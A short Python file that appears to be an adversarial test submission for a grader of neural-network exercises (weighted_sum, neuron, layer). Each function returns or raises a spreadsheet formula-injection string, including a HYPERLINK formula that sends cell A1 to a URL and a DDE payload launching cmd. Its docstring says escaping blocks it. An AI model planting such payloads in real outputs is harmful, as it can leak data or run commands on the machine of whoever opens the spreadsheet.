"""Puts spreadsheet formulas into everything that is shown.

If it succeeded: a spreadsheet would run them when an instructor opens a table.
Stopped by: escaping; what looks like a formula is put in as text.
Wrong: weighted_sum neuron layer
"""

EVIL = (
    '=HYPERLINK("http://127.0.0.1/?"&A1,"8")\n+cmd|\' /C calc\'!A0\n-2+3\n@SUM(A1:A9)\t=1+1\r=1+1'
)
print(EVIL)


def weighted_sum(x, w, b, *rest):
    raise ValueError(EVIL)


def neuron(x, w, b, activation):
    return EVIL


def layer(X, W, b, activation):
    raise type("=1+1", (Exception,), {})(EVIL)
